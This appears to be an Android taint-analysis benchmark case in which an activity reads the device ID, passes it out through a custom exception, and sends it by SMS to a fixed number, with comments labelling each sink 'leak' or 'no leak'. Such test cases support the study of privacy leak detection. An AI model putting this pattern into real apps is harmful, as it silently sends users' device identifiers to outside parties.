package spy;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

/** An exception of one's own carries a value out of the method that throws it. */
public class Failing extends Activity {
    static class Carried extends Exception {
        final String what;

        Carried(String what, String why) {
            super(why);
            this.what = what;
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        try {
            ask();
        } catch (Carried carried) {
            SmsManager.getDefault().sendTextMessage("+155501", null, carried.what, null, null); // leak
            SmsManager.getDefault().sendTextMessage("+155501", null, carried.getMessage(), null, null); // no leak
        } finally {
            SmsManager.getDefault().sendTextMessage("+155501", null, "done", null, null); // no leak
        }
    }

    private void ask() throws Carried {
        throw new Carried(((TelephonyManager) getSystemService("phone")).getDeviceId(), "because");
    }
}
